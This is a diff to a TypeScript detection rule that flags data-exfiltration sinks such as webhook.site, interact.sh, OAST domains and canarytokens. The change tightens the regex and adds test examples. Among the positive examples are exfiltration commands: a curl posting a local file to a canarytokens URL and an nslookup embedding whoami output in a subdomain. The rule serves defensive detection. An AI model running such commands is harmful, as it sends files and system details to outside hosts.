@@ -48,10 +48,11 @@ export const exfiltrationRules: Rule[] = [
     context: "command",
     signal: "sink",
     keywords: ["webhook.site", "requestbin", "pipedream", "hookbin", "requestcatcher", "beeceptor", "interact.sh", "oast.", "burpcollaborator", "oastify", "canarytokens", "dnslog", "ceye.io", "postb.in", "ptsv", "mockbin", "requestinspector"],
-    pattern: /\b(?:webhook\.site|requestbin\.(?:com|net|io)|[\w-]+\.m\.pipedream\.net|pipedream\.net|hookbin\.com|requestcatcher\.com|[\w-]+\.free\.beeceptor\.com|interact\.sh|[\w-]+\.oast\.(?:pro|live|site|online|fun|me)|burpcollaborator\.net|oastify\.com|canarytokens\.(?:com|org)|dnslog\.cn|ceye\.io|postb\.in|ptsv[23]\.com|mockbin\.org|requestinspector\.com)\b/gi,
+    pattern: /\b(?:webhook\.site|requestbin\.(?:com|net|io)|[\w-]+\.m\.pipedream\.net|pipedream\.net|hookbin\.com|requestcatcher\.com|[\w-]+\.free\.beeceptor\.com|interact\.sh|[\w-]+\.oast\.(?:pro|live|site|online|fun|me)|burpcollaborator\.net|oastify\.com|(?:[\w-]+\.)+canarytokens\.(?:com|org)|canarytokens\.(?:com|org)(?=\/\w)|dnslog\.cn|ceye\.io|postb\.in|ptsv[23]\.com|mockbin\.org|requestinspector\.com)\b/gi,
     examples: {
-      positive: ["requests.post('https://webhook.site/0000-aaaa', json=data)"],
-      negative: ["requests.post('https://api.example.invalid/v1/items', json=data)"],
+      positive: ["requests.post('https://webhook.site/0000-aaaa', json=data)", "curl -d @/tmp/k http://canarytokens.com/traffic/x1y2/post.jsp", "nslookup $(whoami).x1y2.canarytokens.com"],
+      // canarytokens' front page, where the user makes a token: callbacks go to a token's subdomain or path.
+      negative: ["requests.post('https://api.example.invalid/v1/items', json=data)", "Create an AWS API key token at https://canarytokens.org (enter your alert email)."],
     },
   },
   {
